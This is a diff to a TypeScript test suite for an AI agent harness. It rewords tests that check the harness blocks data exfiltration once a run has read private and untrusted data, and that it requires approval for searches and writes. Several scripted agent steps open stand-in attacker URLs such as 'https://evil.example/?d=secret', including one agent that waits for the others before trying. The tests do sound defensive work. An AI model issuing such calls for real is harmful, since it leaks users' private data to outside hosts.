@@ -26,7 +26,7 @@ const reader = (name: string, labels: RunLabel[]): Tool =>
     run: async () => ({ read: name }),
   });
 
-/** A table whose agents can also read something of every label, open addresses and search. */
+/** A harness whose agents can also read data of every label, open addresses and search. */
 async function table(play: (asked: Asked) => Reply, changes: Parameters<typeof createHarness>[3] = {}) {
   const opened: string[] = [];
   const own: Tool[] = [
@@ -54,7 +54,7 @@ async function table(play: (asked: Asked) => Reply, changes: Parameters<typeof c
 
 const solo = (question = 'What does it all mean?') => ({ ...newRun(userId, { rounds: 0 }), question });
 const open = (url: string) => ({ name: 'open', args: { url } });
-/** Makes these calls, one step each, and then says what came of them. */
+/** Makes these calls, one per step, and then answers with their results. */
 const steps =
   (...calls: { name: string; args: unknown; id?: string }[]) =>
   ({ results }: Asked): Reply => {
@@ -64,7 +64,7 @@ const steps =
 const call = (name: string) => ({ name, args: {} });
 
 describe('the labels of a run', () => {
-  test('are said once each, with the agent and the tool that read it first', async () => {
+  test('are logged once each, with the agent and the tool that first read such data', async () => {
     const t = await table(steps(call('readPrivate'), call('readPrivate'), call('readBoth')));
     const run = await t.engine.start(solo());
     expect(dataOf(await readAll(t, run), 'run_label')).toEqual([
@@ -73,7 +73,7 @@ describe('the labels of a run', () => {
     ]);
   });
 
-  test('are those of the conversation before it, too', async () => {
+  test('include those of the earlier conversation', async () => {
     const t = await table(steps(open('https://evil.example/?d=1'), open('https://typed.example/before')), {
       history: async () => ({
         messages: [
@@ -89,7 +89,7 @@ describe('the labels of a run', () => {
   });
 });
 
-test('a run has the labels of every run whose answer it is told, also of one beside the last', async () => {
+test('a run has the labels of every run whose answer is in its prompt, also of a run parallel to the last one', async () => {
   const stores = createStores(database.db);
   const choose = { name: 'choose', id: 'q', args: { question: 'Go on?' } };
   const t = await table(
@@ -109,8 +109,8 @@ test('a run has the labels of every run whose answer it is told, also of one bes
   expect(t.opened).toEqual([]);
 });
 
-describe('a run that has read what is private and what is untrusted', () => {
-  test('opens no address that a model made up, and says why', async () => {
+describe('a run that has read private and untrusted data', () => {
+  test('opens no address that a model made up, and gives the reason', async () => {
     const t = await table(steps(call('readBoth'), open('https://evil.example/?d=secret')));
     const run = await t.engine.start(solo());
     const events = await readAll(t, run);
@@ -120,14 +120,14 @@ describe('a run that has read what is private and what is untrusted', () => {
     expect(dataOf(events, 'run_end')).toMatchObject([{ status: 'completed' }]);
   });
 
-  test.each(['readPrivate', 'readStrange'])('is not one that only did %s: it opens everything', async (name) => {
+  test.each(['readPrivate', 'readStrange'])('is restricted, but a run that only called %s may open any address', async (name) => {
     const t = await table(steps(call(name), open('https://anywhere.example/?d=1')));
     const run = await t.engine.start(solo());
     await readAll(t, run);
     expect(t.opened).toEqual(['https://anywhere.example/?d=1']);
   });
 
-  test('opens what the person typed, what a search returned and what the operator allows, exactly as it is', async () => {
+  test('opens exactly the addresses that the person typed, a search returned or the operator allows', async () => {
     const right = [
       'https://typed.example/page',
       'https://found.example/a?b=c',
@@ -156,7 +156,7 @@ describe('a run that has read what is private and what is untrusted', () => {
     }
   });
 
-  test('opens what the person said while it went on', async () => {
+  test('opens addresses that the person typed while it was running', async () => {
     const choose = { name: 'choose', id: 'q', args: { question: 'Go on?' } };
     const t = await table(({ results, everything }) => {
       if (results.length === 0) return { calls: [call('readBoth'), choose] };
@@ -170,11 +170,11 @@ describe('a run that has read what is private and what is untrusted', () => {
     expect(t.opened).toEqual(['https://steered.example/']);
   });
 
-  test('is that for all of its agents', async () => {
+  test('is restricted for all of its agents', async () => {
     const t = await table(({ json, results, instructions, prompt }) => {
       if (json) return { text: brief };
       if (!instructions.includes('cleo')) return results.length === 0 ? { calls: [call('readBoth')] } : { text: 'I read it.' };
-      // Cleo looks only when the others have, in the second round.
+      // Cleo tries only in the second round, when the others have read the data.
       if (!prompt.includes('I read it.')) return { text: 'I wait.' };
       return results.length === 0 ? { calls: [open('https://evil.example/?d=1')] } : { text: 'I tried.' };
     });
@@ -184,7 +184,7 @@ describe('a run that has read what is private and what is untrusted', () => {
     expect(t.opened).toEqual([]);
   });
 
-  test('is still that in another life of it', async () => {
+  test('is still restricted in its next attempt', async () => {
     const question = { name: 'choose', id: 'q', args: { question: 'Go on?' } };
     const play = steps(call('readBoth'), question, open('https://evil.example/?d=1'), open('https://typed.example/'));
     const first = await table(play);
@@ -201,7 +201,7 @@ describe('a run that has read what is private and what is untrusted', () => {
     expect(dataOf(events, 'run_label')).toHaveLength(2);
   });
 
-  test('asks for every search, and sends the words that the person has seen', async () => {
+  test('needs an approval for every search, and sends the query that the person has seen', async () => {
     const search = (id: string, query: string) => ({ name: 'search', id, args: { query } });
     const t = await table(steps(search('a', 'free'), call('readBoth'), search('b', 'secret'), search('c', 'secret')));
     const run = await t.engine.start(solo());
@@ -216,7 +216,7 @@ describe('a run that has read what is private and what is untrusted', () => {
     expect(dataOf(events, 'run_end')).toMatchObject([{ status: 'completed' }]);
   });
 
-  test('asks for every write, whatever was said yes to for all before', async () => {
+  test('needs an approval for every write, even after an approval of all calls', async () => {
     const letter = (id: string) => ({ name: 'send', id, args: { letter: id } });
     const always: Answer = { kind: 'approval', decision: 'approve', always: true };
     const t = await table(steps(letter('a'), letter('b'), call('readBoth'), letter('c')));
